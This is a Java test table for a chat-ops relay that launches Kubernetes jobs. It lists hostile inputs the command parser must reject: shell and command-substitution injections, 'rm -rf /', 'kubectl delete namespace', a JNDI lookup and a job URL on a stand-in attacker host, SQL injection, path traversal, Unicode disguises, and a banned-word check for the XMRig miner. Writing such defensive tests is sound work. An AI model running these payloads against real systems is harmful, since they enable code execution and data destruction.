package dev.taskping.relay.conversation;

import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Texts of a person who may launch, none of which may launch anything.
 *
 * @param name what is tried
 * @param words the text
 * @param reply the expected reply
 */
record HostileTexts(String name, String words, String reply) {

    private static final String NO_NAME = "is not a valid template name";
    private static final String NO_PARAMETER = "is not a parameter";
    private static final String UNKNOWN = "I do not know";

    /** The table. */
    static Stream<HostileTexts> all() {
        return Stream.of(injected(), malformed(), disguised()).flatMap(rows -> rows);
    }

    private static Stream<HostileTexts> injected() {
        return Stream.of(
                row("YAML in the name", "launch \"evaluate\nspec: {privileged: true}\"", NO_NAME),
                row("JSON in the name", "launch {\"template\":\"evaluate\"}", NO_NAME),
                row("JSON for a command", "{\"kind\":\"launch\",\"template\":\"evaluate\"}", UNKNOWN),
                row("a path in the name", "launch ../../kube-system/admin", NO_NAME),
                row("another namespace in the name", "launch other/evaluate", NO_NAME),
                row("shell in the name", "launch evaluate;reboot", NO_NAME),
                row("a pipe in the name", "launch evaluate|sh", NO_NAME),
                row("command substitution", "launch $(whoami)", NO_NAME),
                row("back ticks", "launch `id`", NO_NAME),
                row("a Helm template", "launch {{.Values.secret}}", NO_NAME),
                row("our own reference", "launch $(params.lr)", NO_NAME),
                row("an expression", "launch ${jndi:ldap://evil.example.org/a}", NO_NAME),
                row("SQL in the name", "launch evaluate'--", NO_NAME),
                row("a URL in the name", "launch https://evil.example.org/job.yaml", NO_NAME),
                row("shell behind the name", "launch evaluate ; reboot", NO_PARAMETER),
                row("shell behind the name, joined", "launch evaluate && reboot", NO_PARAMETER),
                row("substitution as a key", "launch evaluate $(id)=1", NO_PARAMETER),
                row("a path into the spec as a key", "launch evaluate spec.containers[0].image=evil", NO_PARAMETER),
                row("a JSON pointer as a key", "launch evaluate /spec/template=evil", NO_PARAMETER),
                row("a flag", "launch evaluate --image=evil", NO_PARAMETER),
                row("YAML as a parameter", "launch evaluate image: evil", NO_PARAMETER),
                row("JSON as a parameter", "launch evaluate {\"image\":\"evil\"}", NO_PARAMETER),
                row("shell for a command", "rm -rf /", UNKNOWN),
                row("SQL for a command", "'; DROP TABLE command; --", "quote"),
                row("a command behind a command", "status; launch evaluate", UNKNOWN),
                row("another program's command", "kubectl delete namespace ml", UNKNOWN),
                row("sudo", "sudo launch evaluate", UNKNOWN));
    }

    private static Stream<HostileTexts> malformed() {
        String many = IntStream.range(0, 33).mapToObj(i -> "p" + i + "=1").collect(Collectors.joining(" "));
        return Stream.of(
                row("a parameter twice", "launch evaluate lr=1 lr=2", "is given twice"),
                row("a parameter twice, quoted", "launch evaluate lr=1 \"lr=2\"", "is given twice"),
                row("a parameter without a value", "launch evaluate lr", NO_PARAMETER),
                row("a value without a parameter", "launch evaluate =1", NO_PARAMETER),
                row("parameters without a name", "launch lr=1", "Say what to launch"),
                row("a quote that never ends", "launch evaluate note=\"half", "quote"),
                row("33 parameters", "launch evaluate " + many, "too many"),
                row("a value of 501 characters", "launch evaluate note=" + "x".repeat(501), "longer than 500"),
                row("a name of 300 characters", "launch " + "x".repeat(300), NO_NAME),
                row("a command of 3,000 characters", "launch evaluate " + "x".repeat(3_000), "too long"),
                row("quotes alone", "\"\"", "I understand"),
                row("a negative number of lines", "logs -1", "a number of lines"),
                row("a number past all types", "logs 99999999999999999999", "a number of lines"),
                row("a float", "logs 1e3", "a number of lines"),
                row("a number that is a word", "logs ten", "a number of lines"),
                row("no line at all", "logs 0", "between 1 and"),
                row("retry with an argument", "retry image=evil", "Write only retry"),
                row("status of a path", "status ../other", "Write only status"));
    }

    private static Stream<HostileTexts> disguised() {
        return Stream.of(
                row("a Cyrillic letter in the verb", "l\u0430unch evaluate", UNKNOWN),
                row("a Cyrillic letter in the name", "launch ev\u0430luate", NO_NAME),
                row("a Greek letter in the name", "launch evalu\u03b1te", NO_NAME),
                row("full width", "ｌａｕｎｃｈ evaluate", UNKNOWN),
                row("mathematical letters", "launch 𝐞𝐯𝐚𝐥𝐮𝐚𝐭𝐞", NO_NAME),
                row("a zero width space in the verb", "lau\u200Bnch evaluate", UNKNOWN),
                row("a zero width space in the name", "launch eval\u200Buate", NO_NAME),
                row("a zero width space in a key", "launch evaluate l\u200Br=1", NO_PARAMETER),
                row("right to left", "launch \u202Eetaulave", NO_NAME),
                row("right to left in a key", "launch evaluate \u202Erl=1", NO_PARAMETER),
                row("a combining mark", "launch evaluate\u0301", NO_NAME),
                row("an emoji", "launch 🚀", NO_NAME),
                row("half a surrogate pair", "launch \uD83D", NO_NAME),
                row("a banned word", "launch xmrig", "not accepted here"),
                row("a banned word in a parameter", "launch evaluate note=XMRig", "not accepted here"),
                row("a banned word in Cyrillic", "launch evaluate note=\u0445mrig", "not accepted here"),
                row("a banned word with a soft hyphen", "launch evaluate note=xm\u00ADrig", "not accepted here"));
    }

    private static HostileTexts row(String name, String words, String reply) {
        return new HostileTexts(name, words, reply);
    }

    @Override
    public String toString() {
        return name;
    }
}
